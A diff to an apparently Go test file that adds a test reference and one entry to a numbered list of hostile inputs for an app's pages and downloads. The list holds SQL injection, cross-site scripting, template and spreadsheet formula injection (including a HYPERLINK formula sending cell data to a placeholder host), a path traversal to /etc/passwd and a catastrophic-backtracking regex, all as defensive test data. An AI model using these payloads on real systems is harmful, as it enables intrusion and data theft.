@@ -20,13 +20,14 @@ import (
 )
 
 // Groups G, J13 and M of the bad inputs for pages that people read and for what they download from them: the portal, receipts, campaigns and
-// statements. Exports of the staff are tried in exports_test.go, which also says where the other numbers of group G are.
+// statements. Exports of the staff are tried in exports_test.go, which also says where the other numbers of group G are; M09, of a long
+// statement, in payouts/statements/issue_sql_test.go.
 
 // hostile are texts that some reader would take for commands, by the numbers of the project's list of them.
 var hostile = []struct{ number, text string }{
 	{"G01", `'; DROP TABLE entry;--`}, {"G02", `' OR 1=1--`}, {"G03", `$1 $tag$ $$`}, {"G06", `%_%`}, {"G07", `<script>alert(1)</script>`}, {"G08", `"><img src=x onerror="alert(2)">`},
 	{"G09", `javascript:alert(1)`}, {"G10", `{{7*7}}${7*7}{{.Data}}`}, {"G11", `=cmd|'/c calc'!A1`}, {"G12", `+1+1`}, {"G13", `-2+3`}, {"G15", `@SUM(A1)`},
-	{"G17", `=HYPERLINK("http://x?"&A1)`}, {"G18", `a "quoted", comma`}, {"G19", `a;b`}, {"G21", `../../etc/passwd`}, {"M11", `(a+)+$`},
+	{"G17", `=HYPERLINK("http://x?"&A1)`}, {"G18", `a "quoted", comma`}, {"G19", `a;b`}, {"G21", `../../etc/passwd`}, {"G23", `O'Neil & Co: //a?(b),.+ &amp; <c/>`}, {"M11", `(a+)+$`},
 }
 
 // readable is a market with every page, in which cre_amy earned of an order of which a part came back, and her statement of that month.
